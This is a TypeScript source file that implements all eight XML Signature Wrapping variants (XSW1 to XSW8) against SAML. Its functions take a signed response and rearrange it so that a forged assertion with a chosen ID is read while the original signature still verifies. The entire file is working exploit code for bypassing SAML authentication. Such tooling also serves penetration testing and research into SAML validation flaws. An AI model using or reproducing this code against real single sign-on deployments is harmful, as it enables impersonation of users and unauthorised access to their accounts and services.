/** Where the honest, signed part goes and where the forged one takes its place: the eight known ways. */
export const wrappings = ['xsw1', 'xsw2', 'xsw3', 'xsw4', 'xsw5', 'xsw6', 'xsw7', 'xsw8'] as const;
export type Wrapping = (typeof wrappings)[number];

const signaturePattern = /<ds:Signature [\s\S]*?<\/ds:Signature>/;
const assertionPattern = /<saml:Assertion [\s\S]*<\/saml:Assertion>/;

/**
 * Wraps the signature of a message so that a forged assertion is read while the honest one verifies: 1 and 2 wrap the
 * signature of the response, 3 to 8 that of the assertion. The forged part has the given ID.
 */
export function wrapSignature(xml: string, how: Wrapping, forge: (part: string) => string, forgedId: string): string {
  if (how === 'xsw1' || how === 'xsw2') return wrapResponse(xml, how, forge, forgedId);
  const honest = part(assertionPattern, xml);
  const signature = part(signaturePattern, honest);
  const bare = honest.replace(signature, '');
  const forged = withId(forge(bare), forgedId);
  const message: Record<Exclude<Wrapping, 'xsw1' | 'xsw2'>, string> = {
    xsw3: forged + honest,
    xsw4: into(forged, 'Assertion', honest),
    xsw5: signed(forged, signature) + bare,
    xsw6: signed(forged, inside(signature, bare)),
    xsw7: `<samlp:Extensions>${forged}</samlp:Extensions>${honest}`,
    xsw8: signed(forged, inside(signature, bare)).replace(
      /(<saml:Issuer>[^<]*<\/saml:Issuer>)(<ds:Signature[\s\S]*<\/ds:Signature>)/,
      '$2$1',
    ),
  };
  return xml.replace(honest, () => message[how]);
}

function wrapResponse(xml: string, how: 'xsw1' | 'xsw2', forge: (part: string) => string, forgedId: string): string {
  const signature = part(signaturePattern, xml.replace(assertionPattern, ''));
  const bare = xml.replace(signature, '');
  const forged = withId(forge(bare), forgedId);
  return how === 'xsw1' ? signed(forged, inside(signature, bare)) : signed(forged, bare + signature);
}

function signed(element: string, signature: string): string {
  return element.replace('</saml:Issuer>', () => `</saml:Issuer>${signature}`);
}

function inside(signature: string, wrapped: string): string {
  return signature.replace('</ds:Signature>', () => `<ds:Object>${wrapped}</ds:Object></ds:Signature>`);
}

function into(element: string, name: string, child: string): string {
  return element.replace(new RegExp(`</saml:${name}>$`), () => `${child}</saml:${name}>`);
}

function withId(element: string, id: string): string {
  return element.replace(/ ID="[^"]+"/, () => ` ID="${id}"`);
}

function part(pattern: RegExp, xml: string): string {
  const [found] = pattern.exec(xml) ?? [];
  if (!found) throw new Error('There is nothing to wrap.');
  return found;
}
